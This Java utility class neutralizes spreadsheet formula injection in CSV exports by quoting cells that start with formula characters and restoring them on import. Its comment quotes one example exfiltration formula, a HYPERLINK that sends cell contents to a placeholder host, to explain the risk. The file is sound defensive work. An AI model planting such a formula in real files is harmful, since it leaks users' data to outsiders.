package org.dutyledger.common;

/**
 * How every CSV file the service writes holds a cell, in one place. Spreadsheet programs run a cell that starts
 * with {@code = + - @}, a tab or a carriage return as a formula ({@code =HYPERLINK("http://x/?"&A1,"click")}
 * sends other cells away), so such a cell is written with a single quote before it, as the OWASP guidance on CSV
 * injection advises: Excel and LibreOffice then show the text and run nothing. Our CSV imports remove that one
 * quote again ({@link #restore}), so an exported file imports back unchanged. XLSX files need none of this: their
 * cells are typed strings, never formulas.
 */
public final class CsvCells {

    private CsvCells() {
    }

    /** True for text a spreadsheet would read as a formula. */
    public static boolean startsLikeAFormula(String value) {
        if (value == null || value.isEmpty()) {
            return false;
        }
        char c = value.charAt(0);
        return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
    }

    /** The text as a spreadsheet will show it and not run it. */
    public static String neutralize(String value) {
        return startsLikeAFormula(value) ? "'" + value : value;
    }

    /** The text as written before {@link #neutralize}: one leading quote before a formula character goes. */
    public static String restore(String cell) {
        return cell != null && cell.length() > 1 && cell.charAt(0) == '\'' && startsLikeAFormula(cell.substring(1))
                ? cell.substring(1) : cell;
    }

    /**
     * One cell of a CSV line: neutralized, then quoted (doubling quotes) when it holds a separator, a quote,
     * a line break or white space at either end, or always when {@code alwaysQuote}. Null is an empty cell.
     */
    public static String cell(String value, boolean alwaysQuote) {
        if (value == null) {
            return "";
        }
        String v = neutralize(value);
        boolean quote = alwaysQuote || v.indexOf(',') >= 0 || v.indexOf('"') >= 0 || v.indexOf('\n') >= 0
                || v.indexOf('\r') >= 0 || !v.equals(v.strip());
        return quote ? '"' + v.replace("\"", "\"\"") + '"' : v;
    }
}
